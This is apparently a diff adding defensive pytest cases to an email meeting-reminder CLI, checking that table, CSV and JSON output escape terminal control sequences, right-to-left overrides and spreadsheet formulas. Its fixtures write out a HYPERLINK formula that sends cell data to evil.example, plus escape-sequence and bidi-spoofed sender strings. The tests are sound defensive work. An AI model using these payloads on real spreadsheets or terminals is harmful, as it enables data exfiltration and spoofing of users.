@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from dataclasses import replace
@@ -56,6 +57,25 @@ def test_explain_reply_prints_the_documented_json(
         assert verdict[key] == expected[key], key
     assert "met yesterday for 45 minutes" in verdict["text"]
     assert not (deployment / "reminders.sqlite3").exists()
+
+
+def test_explain_reply_escapes_what_would_drive_the_terminal(
+    deployment: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A C1 control or a right-to-left override in the reply's text is printed as a JSON
+    escape: nothing reaches the terminal raw, and the JSON still reads back exactly."""
+    hostile = tmp_path / "hostile.eml"
+    hostile.write_bytes(
+        MEETING_REPLY.read_bytes().replace(
+            b"Sam brought good", b"Sam =C2=9B2J brought =E2=80=AEgood"
+        )
+    )
+    assert main(["explain-reply", str(hostile), "--now", CONTEXT["now"]]) == 0
+    out = capsys.readouterr().out
+    assert "\x9b" not in out
+    assert "\u202e" not in out
+    assert "\\u009b2J brought \\u202egood" in out
+    assert "Sam \x9b2J brought \u202egood" in json.loads(out)["text"]
 
 
 def test_explain_reply_reads_standard_input(
@@ -187,6 +207,35 @@ def test_meetings_as_table_csv_and_json(
     assert json.loads(capsys.readouterr().out) == []
 
 
+def test_meetings_as_csv_never_hand_a_spreadsheet_a_formula(
+    deployment: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A reply whose Message-ID is a formula is written with an apostrophe first, as in `report`."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    _record(deployment / "reminders.sqlite3", replace(MET, message_id=formula))
+    assert main(["meetings", "--format", "csv"]) == 0
+    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["message_id"] == "'" + formula
+    assert row["duration_minutes"] == "45"
+
+
+HOSTILE_MESSAGE_ID = "<x\x1b]0;owned\x07\x1b[2J\u202eFAKE-ERROR@evil>"
+
+
+@pytest.mark.parametrize("output", ["table", "csv", "json"])
+def test_meetings_never_print_control_characters(
+    deployment: Path, output: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A Message-ID with terminal escapes and a bidi override reaches no format raw."""
+    _record(deployment / "reminders.sqlite3", replace(MET, message_id=HOSTILE_MESSAGE_ID))
+    assert main(["meetings", "--format", output]) == 0
+    out = capsys.readouterr().out
+    assert "2026-11-23" in out
+    assert all(line.isprintable() for line in out.splitlines()), ascii(out)
+    if output == "json":
+        assert json.loads(out)[0]["message_id"] == HOSTILE_MESSAGE_ID
+
+
 def test_meetings_of_a_mistyped_pair_say_there_is_no_such_pair(
     deployment: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -268,6 +317,18 @@ def test_review_never_prints_control_characters(
     assert "\x1b" not in out
     assert "\x07" not in out
     assert "hello" in out
+
+
+def test_review_never_prints_a_hostile_sender_raw(
+    deployment: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A sender address with a C1 control and a right-to-left override is shown without them."""
+    sender = "finance\u202elpmaxe.dniwhtron\x9b2j@evil.example"
+    _record(deployment / "reminders.sqlite3", replace(STRANGER, sender=sender))
+    assert main(["review"]) == 0
+    [line] = [line for line in capsys.readouterr().out.splitlines() if " from " in line]
+    assert line.isprintable()
+    assert line.endswith("from finance\ufffdlpmaxe.dniwhtron\ufffd2j@evil.example")
 
 
 def test_review_done_takes_messages_off_the_list(
